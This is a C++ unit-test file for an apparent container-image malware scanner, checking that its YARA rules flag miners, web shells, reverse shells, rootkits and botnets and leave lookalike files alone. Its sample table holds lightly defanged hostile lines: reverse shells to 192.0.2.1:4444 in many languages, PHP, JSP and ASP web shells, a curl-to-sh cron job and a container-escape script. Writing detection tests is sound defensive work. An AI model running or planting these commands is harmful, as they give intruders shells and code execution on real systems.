#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <regex>
#include <set>

#include "rules.h"
#include "yara.h"

namespace seawall::images {
namespace {

using testing::Contains;
using testing::ElementsAre;
using testing::IsEmpty;

/// What a rule must find. '~' is taken out: this file must not be what it is about. Behind '^' words are hidden as
/// Mirai hides them.
struct Sample {
  std::string_view rule;
  std::string_view path;  ///< empty: an ELF file that holds the words
  std::string_view text;
};

constexpr Sample samples[] = {
    {"miner_xmrig", "", "donate.v2.xm~rig.com"},
    {"miner_xmrig", "", "--donate~-level --rand~omx-mode --cpu-max-thr~eads-hint"},
    {"miner_xmr_stak", "", "xmr~-stak \"pool_add~ress\" \"tls_finger~print\""},
    {"miner_cpuminer", "", "Usage: mi~nerd [OPTIONS]"},
    {"miner_cpuminer", "", "cpumi~ner/2.5.1 mining.sub~scribe"},
    {"miner_ethminer", "", "strat~um1+tcp --farm-re~check eth_submit~Hashrate"},
    {"miner_cgminer", "", "Usage: cg~miner"},
    {"miner_of_graphics_cards", "", "lolMi~ner strat~um+tcp kawp~ow autoly~kos"},
    {"miner_of_any_kind", "", "strat~um+tcp:// mining.sub~scribe mining.autho~rize"},
    {"miner_configuration", "tmp/config.json",
     R"({"po~ols": [{"al~go": null, "url": "a:1", "us~er": "4~A1111111111222222222233333333334444444444)"
     R"(55555555556666666666777777777788888888889999999999AAA"}]})"},
    {"miner_started_by_script", "opt/run.sh",
     "#!/bin/sh\n./a -o strat~um+tcp://pool.example.com:3333 -u w~allet -p x\n"},
    {"miner_started_by_script", "opt/run.sh", "#!/bin/sh\n./a -o pool.support~xmr.com:443 -u w~allet --nice~hash\n"},
    {"miner_in_page", "srv/a.js", "var m = new Coin~Hive.Anony~mous('key');"},
    {"webshell_php_runs_code", "srv/a.php", "<?php @ev~al(base64~_decode($_PO~ST['a'])); ?>"},
    {"webshell_php_runs_code", "srv/a.php", "<?php @ass~ert($_REQ~UEST['a']); ?>"},
    {"webshell_php_runs_code", "srv/a.php", "<?php preg_rep~lace('/.*/e', $_GE~T['a'], ''); ?>"},
    {"webshell_php_runs_code", "srv/a.php", "<?php $_GE~T['f']($_PO~ST['a']); ?>"},
    {"webshell_php_runs_code", "srv/a.php", "<?php $f = create_fu~nction('', $_PO~ST['a']); $f(); ?>"},
    {"webshell_php_runs_command", "srv/a.php", "<?php sys~tem($_GE~T['c']); ?>"},
    {"webshell_php_runs_command", "srv/a.php", "<?php echo `$_GE~T[c]`; ?>"},
    {"webshell_php_writes_file", "srv/a.php",
     "<?php file_put~_contents($_GE~T['f'], base64~_decode($_PO~ST['c'])); ?>"},
    {"webshell_php_hidden_code", "srv/a.php",
     "<?php ev~al(gzinf~late(base64~_decode('AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
     "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
     "AAAAAAAAAAAAAAAAAAAAAAAA'))); ?>"},
    {"webshell_php_known", "srv/a.php", "<?php function wso~Footer() {} $_PO~ST['a']; ?>"},
    {"webshell_with_default_key", "srv/a.jsp", "<% String k=\"e45e329f~eb5d925b\"; define~Class"},
    {"webshell_php_meterpreter", "srv/a.php", "<?php $GLOB~ALS['msgsock']=$s; $GLOB~ALS['msgsock_type']='x';"},
    {"webshell_jsp", "srv/a.jsp", "<% Runtime.getRun~time().exec(request.getPara~meter(\"x\")); %>"},
    {"webshell_jsp", "srv/a.jsp",
     "<% String c = request.getPara~meter(\"cmd\"); Process p = Runtime.getRun~time().exec(c); %>"},
    {"webshell_asp", "srv/a.asp", "<%ev~al request(\"a\")%>"},
    {"webshell_asp", "srv/a.aspx", "<%@ Page Language=\"Jscript\"%><%ev~al(Request.It~em[\"a\"],\"unsafe\");%>"},
    {"webshell_of_script_language", "srv/a.py", "#!/usr/bin/python3\nos.po~pen(form.getva~lue('c'))"},
    {"webshell_of_script_language", "srv/a.py", "subprocess.check~_output(request.ar~gs['c'], shell=True)"},
    {"webshell_of_script_language", "srv/a.pl", "#!/usr/bin/perl\nsys~tem($q->par~am('c'));"},
    {"webshell_of_script_language", "srv/a.js", "require('child_process').ex~ec(req.qu~ery.c)"},
    {"webshell_of_script_language", "srv/a.rb", "puts sys~tem(par~ams[:cmd])"},
    {"reverse_shell_bash", "opt/a.sh", "bash -i >~& /dev/t~cp/192.0.2.1/4444 0>&1\n"},
    {"reverse_shell_bash", "opt/a.sh", "exec 5<>~/dev/t~cp/192.0.2.1/4444; sh <~&5 >&5 2>&5\n"},
    {"reverse_shell_netcat", "opt/a.sh", "#!/bin/sh\nn~c 192.0.2.1 4444 -e /bin/s~h\n"},
    {"reverse_shell_netcat", "opt/a.sh",
     "mkf~ifo /tmp/f; cat /tmp/f | /bin/sh -~i 2>&1 | n~c 192.0.2.1 4444 > /tmp/f\n"},
    {"reverse_shell_python", "opt/a.py",
     "s.conn~ect((\"192.0.2.1\",4444));os.du~p2(s.fileno(),0);subprocess.ca~ll([\"/bin/sh\",\"-i\"])"},
    {"reverse_shell_perl", "opt/a.pl",
     "if(conn~ect(S,sockaddr_in($p,inet_aton($i)))){open(STD~IN,\">&S\");ex~ec(\"/bin/sh -i\");};"},
    {"reverse_shell_php", "opt/a.php", "<?php $s=fsock~open(\"192.0.2.1\",4444);ex~ec(\"/bin/sh -i <&3 >&3 2>&3\");"},
    {"reverse_shell_ruby", "opt/a.rb",
     "f=TCPSo~cket.open(\"192.0.2.1\",4444).to_i;ex~ec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)"},
    {"reverse_shell_socat", "opt/a.sh", "so~cat tcp:192.0.2.1:4444 ex~ec:'bash -li',pt~y,stderr,setsid,sigint,sane\n"},
    {"reverse_shell_node", "opt/a.js",
     "var c = new net.So~cket(), sh = cp.spa~wn('/bin/sh', []); c.pipe(sh.std~in); sh.std~out.pipe(c);"},
    {"reverse_shell_powershell", "opt/a.ps1",
     "$c = New-Obj~ect Net.Sockets.TCPCl~ient('192.0.2.1',4444); $s = $c.GetStr~eam(); $r = (i~ex $d 2>&1)"},
    {"tool_for_containers", "", "path\tgithub.com/cdk~-team/CDK/cmd/cdk"},
    {"tool_by_its_words_for_containers", "", "Peira~tes v1.1 https://www.inguar~dians.com/peirates"},
    {"tool_for_more_rights", "", "mod\tgithub.com/jpil~lora/chisel\tv1.9.1"},
    {"implant_in_go", "", "github.com/bishop~fox/sliver/implant/sliver sliver~pb.BeaconTasks"},
    {"tool_mimikatz", "", "genti~lkiwi sekurl~sa::logonpasswords"},
    {"tool_script_for_more_rights", "opt/a.sh", "#!/bin/sh\n# lin~peas, by carlos~polop\n"},
    {"tool_lazagne", "opt/a.py", "from laza~gne.config import x\nimport laza~gne.softwares\n"},
    {"escape_by_release_agent", "opt/a.sh",
     "#!/bin/sh\necho 1 > /tmp/c/x/notify_on~_release\nh=`sed -n 's/.*\\per~dir=//p' /etc/mtab`\n"
     "echo $h/cmd > /tmp/c/release~_agent\n"},
    {"bot_mirai", "", "^/bin/busy~box TSource Engine Qu~ery listening tu~n0"},
    {"bot_mirai", "", "/bin/busybox MI~RAI MI~RAI: applet not found"},
    {"bot_gafgyt", "", "LOLNO~GTFO GETLO~CALIP KILL~ATTK"},
    {"bot_tsunami", "", "NOTICE %s :TSUN~AMI <target> <secs> NOTICE %s :Kai~ten wa goraku"},
    {"bot_xorddos", "", "BB2FA36A~AA9541F0"},
    {"rootkit_diamorphine", "", "diamor~phine_init"},
    {"rootkit_reptile", "", "You got super po~wers! You have no po~wer here! :("},
    {"rootkit_hides_process", "", "/proc/self/fd/%~d /proc/%s/st~at readdi~r64 Error in dl~sym: %s\n"},
    {"backdoor_bpfdoor", "", "/var/run/hald~rund.pid kdmtmp~flush"},
    {"worm_kinsing", "", "kdevtm~pfsi main.redisBr~ute main.minRu~n"},
    {"worm_script", "opt/a.sh",
     "#!/bin/sh\npkill -f kdevtm~pfsi\npkill -f kins~ing\npkill -f xmr~ig\nchat~tr -i /etc/ld.so.pre~load\n"},
    {"worm_teamtnt", "opt/a.sh", "#!/bin/sh\n# hilde@team~tnt.red\ntntre~cht -i /etc\n"},
    {"preload_of_odd_library", "etc/ld.so.preload", "/tmp/l~ib.so\n"},
    {"preload_of_odd_library", "etc/ld.so.preload", "/usr/lib/.hid~den/a.so\n"},
    {"crontab_runs_download", "etc/cron.d/job", "* * * * * root cu~rl -fsSL http://192.0.2.1/a | s~h\n"},
    {"eicar_test_file", "tmp/a.com", R"(X5O!P%@AP[4\PZX54(P^)7CC)7}$EIC~AR-STAND~ARD-ANTIVIRUS-TEST-FILE!$H+H*)"},
};

std::string bytes_of(const Sample& sample) {
  std::string bytes(sample.text);
  std::erase(bytes, '~');
  if (!sample.path.empty()) return bytes;
  if (bytes.starts_with('^')) {
    for (char& c : bytes) c = static_cast<char>(c ^ 0x22);
  }
  return std::string("\x7f"
                     "ELF\x02\x01\x01",
                     7) +
         std::string(57, '\0') + bytes + '\0';
}

class BuiltInRules : public testing::Test {
 protected:
  void SetUp() override {
    const std::optional<documents::Error> failure = load_yara();
    if (failure && !std::getenv("CI")) GTEST_SKIP() << failure->text();
    ASSERT_FALSE(failure) << failure->text();
    documents::Result<std::shared_ptr<const Rules>> rules = compile_rules({}, true);
    ASSERT_TRUE(rules) << rules.error().text();
    rules_ = take(std::move(rules));
  }
  std::vector<std::string> names(std::string_view path, std::string_view bytes) const {
    std::vector<std::string> names;
    for (const Malware& malware : rules_->scan(path, bytes).malware) names.push_back(malware.rule);
    return names;
  }
  std::shared_ptr<const Rules> rules_;
};

TEST_F(BuiltInRules, FindWhatTheyAreFor) {
  for (const Sample& sample : samples) {
    const std::string bytes = bytes_of(sample);
    const std::string_view path = sample.path.empty() ? "usr/bin/a" : sample.path;
    EXPECT_THAT(names(path, bytes), Contains(std::string(sample.rule))) << bytes;
    EXPECT_TRUE(Rules::wants(path, 0644, std::string_view(bytes).substr(0, 16))) << path;
  }
}

TEST_F(BuiltInRules, EachHaveASample) {
  std::set<std::string> with_sample;
  for (const Sample& sample : samples) with_sample.emplace(sample.rule);
  std::set<std::string> all;
  const std::filesystem::path folder = std::filesystem::path(SEAWALL_SOURCE_DIR) / "rules" / "yara";
  for (const auto& file : std::filesystem::recursive_directory_iterator(folder)) {
    if (!file.is_regular_file()) continue;
    std::ifstream stream(file.path());
    const std::string text{std::istreambuf_iterator<char>(stream), {}};
    const std::regex rule("\nrule (\\w+)");
    for (std::sregex_iterator it(text.begin(), text.end(), rule), end; it != end; ++it) all.insert((*it)[1]);
  }
  EXPECT_EQ(with_sample, all);
}

TEST_F(BuiltInRules, DescribeWhatTheyFind) {
  for (const Sample& sample : samples) {
    for (const Malware& malware : rules_->scan("a", bytes_of(sample)).malware) EXPECT_NE(malware.description, "");
  }
}

// What looks like it, and is not.
TEST_F(BuiltInRules, LeaveHarmlessFilesAlone) {
  constexpr std::pair<std::string_view, std::string_view> harmless[] = {
      {"a.php", "<?php $db->exec($_POST['sql']); $x = assert(isset($_POST['a'])); curl_exec($_GET['a']); ?>"},
      {"a.php", "<?php call_user_func($f, $_GET['a']); ?>"},
      {"a.sh", "#!/bin/bash\nexec 3<>/dev/tcp/$host/$port || exit 1\n"},
      {"a.sh", "#!/bin/sh\nnc -zv \"$host\" 443 && exec /bin/sh\n"},
      {"a.sh", "#!/bin/sh\npkill -f xmrig\ncurl https://example.com/\n"},
      {"a.py", "sock.connect((host, port))\nos.dup2(null.fileno(), 0)\nsubprocess.call(['ls'])\n"},
      {"a.py", "form.getvalue('x')\nos.system('ls')\n"},
      {"etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n"},
      {"etc/cron.daily/apt", "#!/bin/sh\napt-get update\n"},
      {"usr/share/cron.txt", "curl http://example.com/a | sh\n"},
      {"a.jsp", "<% String c = request.getParameter(\"name\"); out.print(c); %>"},
      {"config.json", R"({"pools": [], "url": "https://example.com", "user": "ann"})"},
  };
  for (const auto& [path, text] : harmless) EXPECT_THAT(names(path, text), IsEmpty()) << text;
}

// The whole file, at its beginning, as its makers have it.
TEST_F(BuiltInRules, TakeTheTestFileOnlyAsItIs) {
  const std::string text = bytes_of(*std::ranges::find(samples, "eicar_test_file", &Sample::rule));
  EXPECT_THAT(names("a", text + "\r\n"), ElementsAre("eicar_test_file"));
  EXPECT_THAT(names("a", " " + text), IsEmpty());
  EXPECT_THAT(names("a", text + std::string(100, 'x')), IsEmpty());
}

}  // namespace
}  // namespace seawall::images
